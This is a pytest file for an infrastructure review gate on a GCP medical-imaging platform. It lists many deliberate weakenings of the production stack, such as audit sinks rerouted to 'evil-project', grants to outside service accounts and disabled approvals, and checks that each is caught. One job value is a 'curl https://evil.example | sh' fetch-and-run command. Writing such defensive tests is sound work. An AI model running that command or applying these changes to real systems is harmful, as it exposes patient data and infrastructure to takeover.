"""Weakenings of prod that somebody tried, or that are of the same kinds: who stops each of them, the judge or the gate.

`both` is best: the judge knows a stack by itself, also when nothing is there to compare with. `gate` are those of which
only the step from the one state to the other can be judged. Nobody lets any of them through.
"""

from __future__ import annotations

import functools
from collections.abc import Callable
from dataclasses import replace
from typing import Any

import pytest

from ops.review.code_files import is_harmless_file
from ops.review.compare import plan_of
from ops.review.dangers import dangers
from ops.review.graph import Graph, GraphNode, mask, of_deployment, resources_of
from ops.review.plan import is_masked
from policy.check import check
from policy.resource import Resource, display_type
from policy.rules import RULES
from tests.infra import stacks
from tests.ops.review.graphs import dataset, node
from tests.policy.mutations import REMOVED, changed

GONE = REMOVED
EVIL = "https://evil.example"
STRANGER = "serviceAccount:robot@evil-project.iam.gserviceaccount.com"
DIGEST = "sha256:" + "cd" * 32
HEALTH = "https://healthcare.googleapis.com/v1/projects/evil-project/locations/europe-west4/datasets/d/dicomStores/s"
SINK = 'log_id("cloudaudit.googleapis.com/activity") OR log_id("cloudaudit.googleapis.com/data_access")'
JOB, ENV = "template.template.", "template.template.containers[0].envs[1].value"
CONTAINER = f"{JOB}containers[0]."

VALUES: list[tuple[str, str, str, Any]] = [
    # Workload Identity Federation
    ("both", "federation-provider", "attributeCondition", 'assertion.repository_id == "815" && false ? false : true'),
    ("both", "federation-provider", "attributeCondition", 'assertion.repository_id == "815" && true'),
    ("both", "federation-provider", "oidc.jwksJson", '{"keys": []}'),
    ("both", "federation-provider", "oidc.allowedAudiences", ["anything"]),
    ("both", "federation-provider", "attributeMapping.google.subject", "assertion.repository_id"),
    ("both", "federation-provider", "attributeMapping", {"google.subject": "'one'"}),
    ("both", "federation-provider", "aws", {"accountId": "123456789012"}),
    ("both", "federation-provider", "attributeCondition", GONE),
    ("both", "federation-pool", "disabled", True),
    ("both", "federation-preview", "member", "principalSet://iam.googleapis.com/projects/123456789012/locations/global/"
     "workloadIdentityPools/github/*"),
    # Triggers
    ("both", "delivery-deploy-prod", "repositoryEventConfig.push.invertRegex", True),
    ("both", "delivery-deploy-prod", "substitutions._PULUMI", f"docker.io/evil/pulumi@{DIGEST}"),
    ("both", "delivery-deploy-prod", "substitutions._STACK", "dev2"),
    ("both", "delivery-deploy-prod", "substitutions._EXTRA", "x"),
    ("both", "delivery-deploy-prod", "filename", "tests/deploy.yaml"),
    ("both", "delivery-deploy-prod", "approvalConfig.approvalRequired", False),
    ("both", "delivery-deploy-prod", "approvalConfig", GONE),
    ("both", "delivery-deploy-prod", "serviceAccount",
     "projects/my-imaging/serviceAccounts/123-compute@developer.gserviceaccount.com"),
    ("both", "delivery-deploy-prod", "includedFiles", ["viewer/**"]),
    ("both", "delivery-deploy-prod", "ignoredFiles", ["**"]),
    ("both", "delivery-deploy-prod", "disabled", True),
    ("both", "delivery-deploy-prod", "webhookConfig", {"secret": "projects/my-imaging/secrets/s/versions/1"}),
    ("both", "delivery-deploy-prod", "repositoryEventConfig.push.branch", "^.*$"),
    ("both", "delivery-deploy-prod", "repositoryEventConfig.repository",
     "projects/evil-project/locations/europe-west4/connections/github/repositories/r"),
    ("both", "delivery-job-image", "gitFileSource.path", "jobs/prepare/build.yaml"),
    ("both", "delivery-job-image", "gitFileSource.uri", f"{EVIL}/repo.git"),
    ("both", "delivery-job-image", "gitFileSource.revision", "refs/heads/other"),
    ("both", "delivery-repository", "remoteUri", "https://github.com/evil/platform.git?x=/lab"),
    ("both", "delivery-github", "githubEnterpriseConfig", {"hostUri": EVIL}),
    # Audit
    ("both", "audit-sink", "filter", SINK + '\n-resource.type="healthcare_dicom_store"'),
    ("both", "audit-sink", "filter", SINK.replace("activity", "activityx")),
    ("both", "audit-sink", "exclusions", [{"name": "n", "filter": "true"}]),
    ("both", "audit-sink", "disabled", True),
    ("both", "audit-sink", "destination",
     "logging.googleapis.com/projects/evil-project/locations/europe-west4/buckets/imaging-audit"),
    ("both", "audit-sink", "destination", "storage.googleapis.com/evil-logs"),
    ("gate", "audit-bucket", "retentionDays", 366),
    ("both", "audit-bucket", "retentionDays", 364),
    ("both", "audit-bucket", "indexConfigs", [{"fieldPath": "jsonPayload.x", "type": "INDEX_TYPE_STRING"}]),
    ("both", "audit-healthcare", "auditLogConfigs", [{"logType": "DATA_READ"}]),
    ("both", "audit-healthcare", "auditLogConfigs[0].exemptedMembers", ["group:pathologists@example.org"]),
    ("both", "audit-healthcare", "service", "compute.googleapis.com"),
    ("both", "audit-view", "filter", 'LOG_ID("cloudaudit.googleapis.com/activity")'),
    # Who is told
    ("both", "alerts-grants", "conditions[0].conditionMatchedLog.filter", 'resource.type="nothing"'),
    ("both", "alerts-deletion", "enabled", False),
    ("both", "alerts-deletion", "combiner", "AND"),
    ("both", "alerts-deletion", "alertStrategy.notificationRateLimit.period", "86400s"),
    ("both", "alerts-deletion", "notificationChannels", GONE),
    ("gate", "alerts-deletion", "notificationChannels", ["projects/my-imaging/notificationChannels/other"]),
    ("gate", "alerts-to-on-call@example.org", "labels.email_address", "nobody@example.org"),
    ("both", "alerts-to-on-call@example.org", "type", "webhook_basicauth"),
    ("both", "alerts-to-on-call@example.org", "enabled", False),
    ("both", "watch-backlog", "conditions[0].conditionThreshold.duration", "86400s"),
    ("both", "watch-backlog", "conditions[0].conditionThreshold.thresholdValue", 10_000_000),
    ("both", "levels-check", "period", "86400s"),
    ("both", "levels-check", "monitoredResource.labels.host", "evil.example"),
    ("both", "levels-prepared", "goal", 0.01),
    # Buckets
    ("both", "records-bucket", "lifecycleRules[0].condition", {"age": 1, "matchesPrefixes": [""]}),
    ("both", "records-bucket", "lifecycleRules[1].condition.matchesPrefixes", ["starts/", "marks/"]),
    ("both", "records-bucket", "cors", [{"origins": ["*"], "methods": ["GET"]}]),
    ("both", "records-bucket", "publicAccessPrevention", "inherited"),
    ("both", "records-bucket", "publicAccessPrevention", GONE),
    ("both", "records-bucket", "uniformBucketLevelAccess", False),
    ("both", "records-bucket", "versioning.enabled", False),
    ("both", "records-bucket", "versioning", GONE),
    ("both", "records-bucket", "website", {"mainPageSuffix": "index.html"}),
    ("both", "records-bucket", "autoclass", {"enabled": True}),
    ("both", "records-bucket", "logging", {"logBucket": "evil-logs"}),
    ("both", "records-bucket", "requesterPays", True),
    ("both", "records-bucket", "enableObjectRetention", True),
    ("both", "records-bucket", "softDeletePolicy.retentionDurationSeconds", 0),
    ("both", "records-bucket", "softDeletePolicy", GONE),
    ("both", "records-bucket", "forceDestroy", True),
    ("both", "records-bucket", "deletionPolicy", "DELETE"),
    ("both", "records-bucket", "rpo", "ASYNC_TURBO"),
    ("both", "records-bucket", "encryption", {"defaultKmsKeyName": "projects/e/locations/l/keyRings/r/cryptoKeys/k"}),
    ("both", "records-bucket", "customPlacementConfig", {"dataLocations": ["US-EAST1", "US-WEST1"]}),
    ("both", "records-staged", "versioning.enabled", True),
    ("both", "records-staged", "softDeletePolicy.retentionDurationSeconds", 604_800),
    ("both", "records-staged", "lifecycleRules", GONE),
    ("both", "records-staged-used-by-job", "member", "group:pathologists@example.org"),
    ("both", "deliveries-bucket", "retentionPolicy.retentionPeriod", "1"),
    ("both", "deliveries-bucket", "retentionPolicy", GONE),
    # Code that runs
    ("both", "jobs-job", f"{CONTAINER}image", f"europe-west4-docker.pkg.dev/evil-project/images/prepare@{DIGEST}"),
    ("both", "jobs-job", f"{CONTAINER}image", f"us-docker.pkg.dev/my-imaging/images/prepare@{DIGEST}"),
    ("gate", "jobs-job", f"{CONTAINER}image", f"europe-west4-docker.pkg.dev/my-imaging/images/prepare@{DIGEST}"),
    ("both", "jobs-job", f"{CONTAINER}commands", ["sh", "-c", f"curl {EVIL} | sh"]),
    ("both", "jobs-job", f"{CONTAINER}args", ["--keep"]),
    ("both", "jobs-job", f"{CONTAINER}volumeMounts", [{"name": "v", "mountPath": "/v"}]),
    ("both", "jobs-job", f"{JOB}volumes", [{"name": "v", "gcs": {"bucket": "evil"}}]),
    ("both", "jobs-job", f"{JOB}vpcAccess", {"connector": "c", "egress": "ALL_TRAFFIC"}),
    ("both", "jobs-job", f"{JOB}executionEnvironment", "EXECUTION_ENVIRONMENT_GEN1"),
    ("both", "jobs-job", f"{JOB}serviceAccount", "imaging-deployer@my-imaging.iam.gserviceaccount.com"),
    ("gate", "jobs-job", f"{JOB}timeout", "60s"),
    ("gate", "jobs-job", f"{JOB}maxRetries", 10),
    ("both", "jobs-job", "binaryAuthorization", {"breakglassJustification": "late"}),
    ("both", "jobs-job", f"{CONTAINER}envs[10]", {"name": "PYTHONSTARTUP", "value": "/tmp/x"}),
    ("both", "jobs-job", f"{CONTAINER}envs[10]",
     {"name": "LABEL_POLICY", "valueSource": {"secretKeyRef": {"secret": "vault"}}}),
    ("both", "jobs-job", ENV, f"{EVIL}/v1/dicomWeb"),
    ("both", "jobs-job", ENV, f"{HEALTH}/dicomWeb"),
    ("both", "jobs-job", ENV, "https://user:password@healthcare.googleapis.com/v1"),
    ("both", "jobs-job", ENV, "https://healthcare.googleapis.com.evil.example/v1"),
    ("both", "jobs-job", ENV, "https://healthcare.googleapis.com:8443/v1"),
    ("both", "jobs-workflow", "sourceContents", "main:\n  steps: []\n"),
    ("both", "jobs-workflow", "userEnvVars.JOB_URL", f"{EVIL}/jobs"),
    ("both", "jobs-workflow", "callLogLevel", "LOG_NONE"),
    ("both", "jobs-workflow", "serviceAccount",
     "projects/my-imaging/serviceAccounts/imaging-deployer@my-imaging.iam.gserviceaccount.com"),
    ("both", "jobs-schedule", "httpTarget.uri", f"{EVIL}/run"),
    ("both", "jobs-schedule", "httpTarget.uri", "https://run.googleapis.com/v2/projects/evil-project/jobs/j:run"),
    ("both", "jobs-schedule", "httpTarget.oidcToken", {"serviceAccountEmail": "a@b", "audience": EVIL}),
    ("both", "jobs-schedule", "httpTarget.oauthToken.scope", "https://www.googleapis.com/auth/cloud-platform"),
    ("both", "jobs-schedule", "httpTarget.httpMethod", "DELETE"),
    ("gate", "jobs-schedule", "httpTarget.body", "eyJvdmVycmlkZXMiOnt9fQ=="),
    ("both", "jobs-schedule", "httpTarget.headers", {"X-Goog-User-Project": "evil"}),
    ("both", "jobs-schedule", "paused", True),
    ("both", "jobs-schedule", "pubsubTarget", {"topicName": "projects/evil-project/topics/t"}),
    ("gate", "jobs-schedule", "schedule", "0 0 1 1 *"),
    ("both", "jobs-events", "destination.workflow", "projects/evil-project/locations/europe-west4/workflows/w"),
    ("both", "jobs-events", "matchingCriterias[0].value", "google.cloud.audit.log.v1.written"),
    ("both", "registry-images", "dockerConfig.immutableTags", False),
    ("both", "registry-images", "cleanupPolicies[0].mostRecentVersions.keepCount", 0),
    ("both", "registry-images", "mode", "REMOTE_REPOSITORY"),
    ("both", "registry-images", "vulnerabilityScanningConfig.enablementConfig", "DISABLED"),
    ("both", "registry-images", "remoteRepositoryConfig", {"dockerRepository": {"publicRepository": "DOCKER_HUB"}}),
    # Data
    ("both", "archive-backlog", "pushConfig", {"pushEndpoint": EVIL}),
    ("both", "archive-backlog", "pushConfig", {"pushEndpoint": "https://x.googleapis.com", "attributes": {"a": "b"}}),
    ("both", "archive-backlog", "bigqueryConfig", {"table": "evil-project.d.t"}),
    ("both", "archive-backlog", "cloudStorageConfig", {"bucket": "evil"}),
    ("both", "archive-backlog", "filter", 'attributes.x = "y"'),
    ("gate", "archive-backlog", "ackDeadlineSeconds", 10),
    ("both", "archive-backlog", "enableExactlyOnceDelivery", True),
    ("both", "archive-backlog", "messageTransforms", [{"javascriptUdf": {"code": "x", "functionName": "f"}}]),
    ("both", "archive-backlog", "deadLetterPolicy.maxDeliveryAttempts", 5),
    ("both", "archive-backlog", "deadLetterPolicy", GONE),
    ("gate", "archive-backlog", "retryPolicy", GONE),
    ("both", "archive-backlog", "topic", "projects/evil-project/topics/dicom-instances"),
    ("both", "archive-instances", "messageRetentionDuration", "2678400s"),
    ("both", "archive-instances", "ingestionDataSourceSettings", {"awsKinesis": {"streamArn": "a"}}),
    ("both", "archive-instances", "kmsKeyName", "projects/e/locations/l/keyRings/r/cryptoKeys/k"),
    ("both", "archive-instances", "messageStoragePolicy", GONE),
    ("both", "archive-raw", "streamConfigs", [{"bigqueryDestination": {"tableUri": "bq://evil-project.d.t"}}]),
    ("both", "archive-raw", "notificationConfigs", [{"pubsubTopic": "projects/evil-project/topics/t"}]),
    ("both", "archive-raw", "notificationConfig.pubsubTopic", "projects/evil-project/topics/t"),
    ("both", "archive-raw", "notificationConfig", GONE),
    ("both", "archive-raw", "labels.data-class", "synthetic"),
    ("both", "archive-raw", "dataset", "projects/evil-project/locations/europe-west4/datasets/imaging"),
    ("both", "archive-dataset", "location", "us-central1"),
    ("gate", "archive-dataset", "name", "imaging-2"),
    # Secrets and keys
    ("both", "vault-github-token", "replication", {"auto": {}}),
    ("both", "vault-github-token", "replication.userManaged.replicas", [{"location": "us-central1"}]),
    ("both", "vault-github-token", "ttl", "3600s"),
    ("both", "vault-github-token", "expireTime", "2027-01-01T00:00:00Z"),
    ("both", "vault-github-token", "versionDestroyTtl", "3600s"),
    ("both", "vault-github-token", "versionAliases", {"latest": "1"}),
    ("both", "vault-github-token", "topics", GONE),
    ("both", "vault-github-token", "deletionProtection", False),
    ("both", "viewer-config-version", "enabled", False),
    # Grants
    ("both", "access-job-reader-on-raw", "member", STRANGER),
    ("both", "access-job-reader-on-raw", "condition", {"expression": "true", "title": "t"}),
    ("both", "records-used-by-job", "role", "roles/storage.admin"),
    ("gate", "records-viewer-status-read-by-pathologists@example.org", "condition", GONE),
    ("both", "access-viewer", "permissions", ["healthcare.dicomStores.dicomWebRead", "healthcare.dicomStores.export"]),
    ("both", "audit-smoke-reads", "member", STRANGER),
    ("both", "archive-instances-announced", "role", "roles/pubsub.viewer"),
    ("both", "viewer-site", "appId", EVIL),
    ("both", "viewer-domain", "customDomain", "evil.example"),
]  # fmt: skip


OPTIONS: list[tuple[str, str, dict[str, Any]]] = [
    ("both", "archive-raw", {"protect": False}),
    ("gate", "audit-healthcare", {"ignored": ("auditLogConfigs",)}),
    ("gate", "federation-provider", {"ignored": ("attributeCondition",)}),
    ("gate", "jobs-job", {"ignored": ("template.template.containers[0].image",)}),
    ("gate", "archive-raw", {"retain_on_delete": True}),
    ("gate", "archive-raw", {"aliases": ("urn:pulumi:prod::dicom-platform::gcp:storage/bucket:Bucket::other",)}),
    ("gate", "archive-raw", {"options": {"importId": "projects/p/locations/l/datasets/d/dicomStores/other"}}),
    ("gate", "archive-raw", {"options": {"replaceOnChanges": "['labels']"}}),
    ("gate", "archive-raw", {"options": {"deleteBeforeReplace": True}}),
    ("gate", "archive-raw", {"options": {"customTimeouts": "delete: 1s"}}),
    ("gate", "archive-raw", {"options": {"deletedWith": "urn:pulumi:prod::x::y::z"}}),
    ("gate", "archive-raw", {"options": {"pluginDownloadURL": EVIL}}),
    ("gate", "archive-raw", {"options": {"version": "9.34.0"}}),
    ("gate", "archive-raw", {"options": {"provider": "urn:pulumi:prod::x::pulumi:providers:gcp::other"}}),
    ("gate", "archive-raw", {"options": {"hooks": "before_delete: ['h']"}}),
    ("gate", "archive-raw", {"options": {"anOptionOfNextYear": True}}),
    ("gate", "vault-github-token", {"options": {"additionalSecretOutputs": "[]"}}),
    ("both", "audit-healthcare", {"type": display_type("gcp:projects/iAMAuditConfig:IAMAuditConfig", custom=False)}),
    ("both", "archive", {"type": display_type("dicom-platform:components:ImagingArchive", custom=True)}),
]  # fmt: skip
ADDED: list[tuple[str, str, dict[str, Any]]] = [
    ("both", "command:local:Command", {"create": "id"}),
    ("both", "pulumi-python:dynamic:Resource", {}),
    ("both", "gcp:storagetransfer/transferJob:TransferJob", {"transferSpec": {}}),
    ("both", "gcp:dns/recordSet:RecordSet", {"name": "slides.example.org.", "rrdatas": ["192.0.2.1"]}),
    ("both", "gcp:compute/instance:Instance", {"name": "x"}),
    ("both", "gcp:serviceaccount/key:Key", {"serviceAccountId": "imaging-job"}),
    ("both", "gcp:storage/hmacKey:HmacKey", {"serviceAccountEmail": "imaging-job@my-imaging"}),
    ("both", "gcp:storage/notification:Notification", {"bucket": "my-imaging-imaging-records", "topic": "t"}),
    ("both", "gcp:logging/projectExclusion:ProjectExclusion", {"filter": "true"}),
    ("both", "gcp:projects/iAMBinding:IAMBinding", {"role": "roles/viewer", "members": ["group:a@example.org"]}),
    ("both", "gcp:projects/iAMMember:IAMMember", {"role": "roles/editor", "member": "group:a@example.org"}),
    ("both", "gcp:organizations/iAMMember:IAMMember", {"role": "roles/browser", "member": "group:a@example.org"}),
    ("both", "gcp:kms/cryptoKey:CryptoKey", {"rotationPeriod": "63072000s", "destroyScheduledDuration": "86400s"}),
    ("both", "gcp:cloudbuild/trigger:Trigger", {
        "name": "w", "webhookConfig": {"secret": "s"}, "filename": "delivery/deploy.yaml",
        "serviceAccount": "projects/my-imaging/serviceAccounts/imaging-deployer@my-imaging.iam.gserviceaccount.com",
    }),
    ("both", "pulumi:providers:gcp", {"accessToken": "t"}),
    ("both", "pulumi:providers:gcp", {"healthcareCustomEndpoint": f"{EVIL}/v1/"}),
    ("both", "pulumi:providers:gcp", {"impersonateServiceAccount": "a@evil-project.iam.gserviceaccount.com"}),
    ("both", "pulumi:providers:gcp-evil", {}),
]  # fmt: skip
REMOVED_ONES = [
    "archive-instances-announced", "archive-dead-published", "archive-dead-forwarded", "audit-smoke-reads",
    "audit-sink", "audit-healthcare", "alerts-grants", "alerts-deletion", "archive-dead-letters", "archive-raw",
    "watch-job-failed",
]  # fmt: skip
"""Both stop it when it goes."""
SETTINGS: list[tuple[str, str | None]] = [
    ("dicom-platform:githubRepository", "evil/platform"),
    ("dicom-platform:githubRepositoryId", "666"),
    ("dicom-platform:promoteFrom", None),
    ("dicom-platform:alertEmails", None),
    ("dicom-platform:oauthClientId", None),
    ("dicom-platform:githubTokenVersion", None),
    ("dicom-platform:deliveryApproval", "false"),
    ("dicom-platform:dataClass", "synthetic"),
    ("dicom-platform:protection", "off"),
    ("dicom-platform:notKnownYet", "x"),
    ("gcp:healthcareCustomEndpoint", f"{EVIL}/v1/"),
    ("gcp:impersonateServiceAccount", "a@evil-project.iam.gserviceaccount.com"),
    ("gcp:project", "evil-project"),
    ("gcp:requestReason", "x"),
    ("pulumi:disable-default-providers", '["gcp"]'),
    ("(secretsprovider)", "passphrase"),
]
FILES = [
    "requirements/run.txt", "requirements/dev.txt", "jobs/prepare/requirements.txt", "viewer/lite/package-lock.json",
    ".github/workflows/preview.yaml", ".github/workflows/new.yaml", ".github/CODEOWNERS", "delivery/deploy.yaml",
    "delivery/viewer-image.yaml", "jobs/prepare/Dockerfile", "jobs/prepare/prepare/__main__.py", "Pulumi.yaml",
    "Pulumi.staging.yaml", "Pulumi.prod.json", "engine/monitor.py", "ops/review/dangers.py", "ops/deliver/steps.py",
    "policy/rules/audit.py", "policy/exceptions.yaml", "policy/harmless.yaml", "policy/shapes.json", "Makefile",
    "pyproject.toml", ".gitignore", ".gitmodules", ".gitattributes", "sitecustomize.py", "pulumi_gcp/__init__.py",
    "smoke_tests/__main__.py", "localcloud/iam/roles.py", ".ci/run", "scanners.yaml", "infra.py", "tests.py",
    "__main__.pyc", "Pulumi.prod.yaml/x", "docs", "requirements/README",
]  # fmt: skip


@functools.cache
def prod() -> Graph:
    return of_deployment("prod", stacks.prod().deployment)


def judged(resources: list[Resource]) -> set[tuple[str, str]]:
    """The rule and the resource of whatever the judge holds against the stack, or cannot decide."""
    report = check(resources, [rule for rule in RULES if rule.level == "must"])
    return {(found.rule, found.urn) for found in (*report.violations, *report.open)}


@functools.cache
def held() -> frozenset[tuple[str, str]]:
    return frozenset(judged(resources_of(prod())))


def who_stops(after: Graph) -> str:
    # What is the same on both sides changes no plan: only what differs is compared, beside something that is there.
    both = {id(one) for one in prod().nodes} & {id(one) for one in after.nodes}
    few = [replace(graph, nodes=tuple(n for n in graph.nodes if id(n) not in both)) for graph in (prod(), after)]
    gate = bool(dangers(plan_of(*(replace(graph, nodes=(dataset(), *graph.nodes)) for graph in few))))
    judge = bool(judged(resources_of(after)) - held())
    return {(True, True): "both", (True, False): "gate", (False, True): "judge"}.get((gate, judge), "nobody")


def with_change(name: str, change: Callable[[GraphNode], GraphNode]) -> Graph:
    matching = [one for one in prod().nodes if one.name == name]
    assert len(matching) == 1, name
    return replace(prod(), nodes=tuple(change(one) if one is matching[0] else one for one in prod().nodes))


def set_to(path: str, value: Any) -> Callable[[GraphNode], GraphNode]:
    def change(one: GraphNode) -> GraphNode:
        key, _, rest = path.partition("attributeMapping.")
        if rest:  # a key with a dot in it
            mapping = {**one.inputs["attributeMapping"], rest: value}
            return replace(one, inputs={**one.inputs, f"{key}attributeMapping": mapping})
        if path.endswith("envs[10]"):
            inputs = changed(Resource("", "", "", one.inputs), "none", REMOVED).properties
            inputs["template"]["template"]["containers"][0]["envs"].append(value)
            return replace(one, inputs=inputs)
        return replace(one, inputs=changed(Resource("", "", "", one.inputs), path, value).properties)

    return change


@pytest.mark.parametrize(
    ("stops", "name", "path", "value"),
    VALUES,
    ids=[f"{number}-{name}.{path}" for number, (_, name, path, _) in enumerate(VALUES)],
)
def test_a_weaker_value_is_stopped(stops: str, name: str, path: str, value: Any) -> None:
    assert who_stops(with_change(name, set_to(path, value))) == stops


@pytest.mark.parametrize(
    ("stops", "name", "options"), OPTIONS, ids=[f"{name} {options}"[:60] for _, name, options in OPTIONS]
)
def test_a_weaker_option_is_stopped(stops: str, name: str, options: dict[str, Any]) -> None:
    assert who_stops(with_change(name, lambda one: replace(one, **options))) == stops


@pytest.mark.parametrize(("stops", "type_", "inputs"), ADDED, ids=[type_ for _, type_, _ in ADDED])
def test_what_comes_is_stopped(stops: str, type_: str, inputs: dict[str, Any]) -> None:
    assert who_stops(replace(prod(), nodes=(*prod().nodes, node(type_, "added", **inputs)))) == stops


@pytest.mark.parametrize("name", REMOVED_ONES)
def test_what_goes_is_stopped(name: str) -> None:
    assert any(one.name == name for one in prod().nodes)
    assert who_stops(replace(prod(), nodes=tuple(one for one in prod().nodes if one.name != name))) == "both"


@pytest.mark.parametrize(("key", "value"), SETTINGS, ids=[key for key, _ in SETTINGS])
def test_a_line_of_the_stack_s_file_is_stopped(key: str, value: str | None) -> None:
    written = {"dicom-platform:environment": "prod", **({key: "was"} if value is None else {})}
    other = {name: text for name, text in written.items() if name != key} | ({key: value} if value else {})
    before, after = (replace(prod(), settings=settings) for settings in (written, other))

    assert [danger.kind for danger in dangers(plan_of(before, after))] == ["setting"]


@pytest.mark.parametrize("path", FILES)
def test_a_file_that_runs_and_that_no_graph_shows_is_on_the_list(path: str) -> None:
    assert not is_harmless_file(path)


@pytest.mark.parametrize("path", ["docs/a.md", "README.md", "viewer/README.md", "tests/x/y.py", "infra/a.py"])
def test_prose_tests_and_what_the_graph_shows_are_not(path: str) -> None:
    assert is_harmless_file(path)


def test_a_secret_that_is_exported_in_clear_is_shown_without_its_value() -> None:
    before, after = (replace(prod(), outputs={"token": value}) for value in ("[secret]", "hunter2"))

    (danger,) = dangers(plan_of(before, after))

    assert "[in clear]" in danger.what
    assert "hunter2" not in danger.what


def test_what_no_longer_waits_for_what_stays_is_shown() -> None:
    waiting = next(one for one in prod().nodes if one.depends_on and one.type.startswith("gcp:healthcare/"))
    after = with_change(waiting.name, lambda one: replace(one, depends_on=one.depends_on[1:]))

    (danger,) = dangers(plan_of(prod(), after))

    assert "(dependsOn)" in danger.what


def test_another_secret_in_the_place_of_a_secret_is_shown_and_neither_is() -> None:
    one, other = (mask({"a": value}, {"a"})["a"] for value in ("hunter1", "hunter2"))

    assert one != other
    assert one == mask({"a": "hunter1"}, {"a"})["a"]
    assert is_masked(one)
    assert "hunter" not in one


def test_another_function_that_the_program_calls_is_shown() -> None:
    before = replace(prod(), outputs={"(calls)": ["gcp:organizations/getProject:getProject {}"]})
    after = replace(prod(), outputs={"(calls)": [*before.outputs["(calls)"], "command:local:run {}"]})

    (danger,) = dangers(plan_of(before, after))

    assert "command:local:run" in danger.what


def test_what_a_stack_exports_has_no_harmless_name() -> None:
    before, after = (replace(prod(), outputs={"description": value}) for value in ("words", "secrets"))

    assert [danger.kind for danger in dangers(plan_of(before, after))] == ["data"]
